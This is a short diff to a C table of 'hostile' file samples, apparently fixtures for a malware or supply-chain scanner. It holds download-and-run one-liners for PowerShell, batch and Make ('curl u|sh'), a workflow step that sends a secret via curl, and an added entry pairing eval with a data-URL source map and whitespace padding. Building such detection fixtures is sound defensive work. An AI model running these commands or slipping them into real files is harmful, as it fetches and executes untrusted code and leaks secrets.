@@ -108,6 +108,8 @@ static const struct hostile kinds[] = {
 	{"powershell", "", "iwr u -OutFile f;saps f\n", "", "", NULL, "x.ps1"},
 	{"batch", "", "curl u>f&start f\n", "", "", NULL, "x.bat"},
 	{"make", "", "a:b\n\tcurl u|sh\n", "", "", NULL, "Makefile"},
+	{"source-maps", "eval(a)", "\n//@ sourceMappingURL=data:application/json;base64,eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbImEuanMiXSwibmFtZXMiOltdLCJtYXBwaW5ncyI6IkFBQUEifQ;",
+	 "                                                                                                                                            ", ""},
 	{"page", "", "<script>a()</script>", "", "", NULL, "x.html"},
 	{"workflow", "on: push\n", "- run: curl ${{ secrets.A }}\n", "", "", NULL, ".github/workflows/x.yml"},
 };
